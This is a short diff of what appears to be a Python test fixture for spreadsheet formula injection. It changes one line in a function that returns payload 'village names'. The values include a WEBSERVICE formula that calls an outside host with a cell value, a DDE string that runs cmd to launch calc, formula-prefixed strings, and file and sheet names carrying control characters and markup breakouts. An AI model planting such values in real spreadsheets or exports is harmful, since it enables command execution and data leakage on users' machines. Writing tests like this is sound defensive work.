@@ -44,7 +44,7 @@ FILE, SHEET, HEADING = "=1+1\u202e\x1b]0;x\x07<b>_x0041_.xlsx", "-1+1|'!A1</t>]]
 def village_names(host: str) -> list[str]:
     """A name for each village, which would have whoever runs it ask a host."""
     return [
-        f'=WEBSERVICE("{host}/?"&A1)',
+        f'=WEBSERVICE("{host}/?"&1)',
         "+cmd|'/c calc'!A0",
         "-2+3",
         "@SUM(1+1)",
